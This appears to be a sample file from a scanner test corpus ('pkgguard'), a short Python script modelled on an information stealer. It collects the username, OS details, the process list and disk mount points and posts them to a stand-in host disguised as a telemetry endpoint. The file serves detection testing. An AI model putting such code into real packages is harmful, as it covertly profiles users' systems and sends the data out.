# pkgguard corpus 206 (system-information), modelled on [stealer-profile]; inert, never run.
import getpass
import platform

import psutil
import requests

profile = {
    "user": getpass.getuser(),
    "os": platform.uname()._asdict(),
    "procs": [p.info for p in psutil.process_iter(["name", "username"])],
    "disks": [d.mountpoint for d in psutil.disk_partitions()],
}
requests.post("https://telemetry-cdn.example/v1/p", json=profile, timeout=5)
